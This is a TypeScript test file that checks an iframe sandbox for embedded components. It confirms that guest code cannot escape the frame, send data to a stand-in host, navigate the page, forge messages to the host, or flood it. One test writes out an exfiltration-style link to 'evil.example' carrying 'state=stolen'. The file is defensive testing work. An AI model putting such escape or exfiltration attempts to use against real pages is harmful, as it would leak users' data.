/** Frames run what the script has written, or what it was given to show: they must not get out. */
import type { Frame } from "playwright-core";
import { expect, test } from "vitest";
import type { NodeData } from "../../../runtime/protocol/element.ts";
import { useViews } from "../lib/use-views.ts";
import type { View } from "../lib/view.ts";
import { calling, leaving, reaching, speaking } from "./guests.ts";

const open = useViews();

const component = (js: string): NodeData => ({ type: "component", id: "c", label: "guest", trigger: "t", data: null, value: {}, js });

/** Requests that the policy has let pass: none of them is answered. */
async function watchRequests(view: View): Promise<string[]> {
  const asked: string[] = [];
  await view.page.route(/evil\.example/, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  return asked;
}

/** Shows the component, and gives what its code says it got. */
async function attempt(view: View, code: string): Promise<unknown> {
  await view.forget();
  await view.show([]);
  await view.show([component(`export default ({ setTriggerValue }) => { let said = false; const done = (what) => { if (!said) setTriggerValue("done", what); said = true; }; ${code} };`)]);
  const [event] = await view.eventsAfter(1);
  const value = event?.trigger?.value;
  return typeof value === "object" && value !== null && "value" in value ? value.value : value;
}

test(`${reaching.length} ways out of a frame lead nowhere`, { timeout: 120_000 }, async () => {
  const view = await open();
  const address = view.page.url();
  const got: unknown[] = [];
  for (const code of reaching) {
    const answer = await attempt(view, code);
    if (String(answer).startsWith("got")) got.push({ code, answer });
  }
  expect(got).toEqual([]);
  expect(view.page.url()).toBe(address);
  expect(await view.page.evaluate(() => "hurt" in window)).toBe(false);
});

test(`${calling.length} ways to call home from a frame: nothing leaves`, { timeout: 120_000 }, async () => {
  const view = await open();
  const asked = await watchRequests(view);
  for (const code of calling) expect({ code, answer: await attempt(view, code) }).not.toMatchObject({ answer: "got" });
  expect(asked).toEqual([]);
});

/** The frame of the component, once its code runs. */
async function frameOf(view: View): Promise<Frame> {
  await view.page.waitForFunction(() => document.querySelector("iframe"));
  const frame = view.page.frames().find((one) => one.parentFrame() === view.page.mainFrame());
  if (!frame) throw new Error("there is no frame");
  return frame;
}

test(`${leaving.length} ways for a frame to go elsewhere: nothing leaves`, { timeout: 60_000 }, async () => {
  const view = await open();
  const asked = await watchRequests(view);
  const address = view.page.url();
  for (const code of leaving) {
    await view.show([]);
    await view.show([component(`export default () => { ${code} };`), { type: "button", id: "b", label: "still here" }]);
    await view.page.waitForFunction(() => document.querySelector("iframe"));
    await view.page.getByRole("button", { name: "still here" }).click();
    await view.page.evaluate(() => new Promise((done) => setTimeout(done, 100)));
  }
  expect(asked).toEqual([]);
  expect(view.page.url()).toBe(address);
  // The policy of the page is what stops them.
  await view.page.evaluate(() => window.faults.splice(0));
});

test("what a frame says in another's name is dropped", async () => {
  const view = await open();
  await view.show([component(`export default ({ setTriggerValue }) => { for (const message of ${JSON.stringify(speaking)}) parent.postMessage(message, "*"); setTriggerValue("end", 1); };`)]);
  await view.eventsAfter(1);
  const said = await view.said();
  expect(said.filter(({ type }) => type !== "ready" && type !== "facts").map((message) => message.type)).toEqual(["event"]);
  expect(await view.events()).toEqual([{ seq: 1, values: {}, trigger: { widget: "t", value: { name: "end", value: 1 } } }]);
  expect(await view.page.getByText("forged").count()).toBe(0);
  expect(await view.page.evaluate(() => "polluted" in {})).toBe(false);
});

test("a frame opens no address by itself, and one at a time when the person does something in it", async () => {
  const view = await open();
  // What a test does to a page counts as done by a person: here the test says when one is there.
  const personIs = (isActive: boolean): Promise<unknown> => view.page.evaluate((is) => Object.defineProperty(navigator, "userActivation", { value: { isActive: is }, configurable: true }), isActive);
  await personIs(false);
  const link = `parent.postMessage({ type: "link", url: "https://evil.example/?state=stolen" }, "*")`;
  await view.show([component(`export default ({ setTriggerValue, parentElement }) => { ${link}; parentElement.innerHTML = "<button>Press</button>"; parentElement.firstChild.onclick = () => { for (let i = 0; i < 50; i++) ${link}; setTriggerValue("end", 2); }; setTriggerValue("end", 1); };`)]);
  const opened = async (): Promise<unknown[]> => (await view.said()).filter(({ type }) => type === "openLink");
  await view.eventsAfter(1);
  expect(await opened()).toEqual([]);
  await personIs(true);
  await view.page.frameLocator("iframe").getByRole("button", { name: "Press" }).click();
  await view.eventsAfter(2);
  expect((await opened()).length).toBeGreaterThan(0);
  expect((await opened()).length).toBeLessThan(10);
});

test("a frame speaks for no other one", async () => {
  const view = await open();
  const says = (word: string): NodeData => ({ type: "component", id: word, label: word, trigger: `t-${word}`, data: null, value: {}, js: `export default ({ setTriggerValue }) => setTriggerValue("said", "${word}");` });
  await view.show([says("one"), says("other")]);
  const events = await view.eventsAfter(2);
  expect(events.map(({ trigger }) => trigger).toSorted((a, b) => String(a?.widget).localeCompare(String(b?.widget)))).toEqual(["one", "other"].map((word) => ({ widget: `t-${word}`, value: { name: "said", value: word } })));
});

test("a frame within a frame cannot pass for the host either", async () => {
  const view = await open();
  await view.show([component("export default () => {};")]);
  const frame = await frameOf(view);
  await frame.evaluate(() => new Promise((done) => {
    const inner = document.createElement("iframe");
    inner.onload = done;
    inner.srcdoc = "<p>inner</p>";
    document.body.append(inner);
  }));
  const nested = view.page.frames().find((one) => one.parentFrame() === frame);
  const forged = { type: "status", status: { state: "crashed", reason: "forged" } };
  await frame.evaluate((message) => window.parent.postMessage(message, "*"), forged);
  await nested?.evaluate((message) => window.parent.parent.postMessage(message, "*"), forged);
  await view.page.evaluate(() => new Promise((done) => setTimeout(done, 50)));
  expect(nested).toBeDefined();
  expect(await view.page.getByText("forged").count()).toBe(0);
});

test("a component that never stops talking does not flood its host", async () => {
  const view = await open();
  await view.show([component(`export default ({ setTriggerValue }) => { for (let i = 0; i < 5000; i++) setTriggerValue("x", i); parent.postMessage({ type: "height", px: 1e12 }, "*"); };`)]);
  await view.page.waitForFunction(() => window.said.some((message) => message.type === "viewError"));
  expect((await view.events()).length).toBeLessThan(200);
  expect(await view.page.locator("iframe").evaluate((frame) => frame.getBoundingClientRect().height)).toBeLessThanOrEqual(20_000);
  expect(await view.takeReports()).toEqual(['The component "guest" says too much: some of it was dropped.']);
});
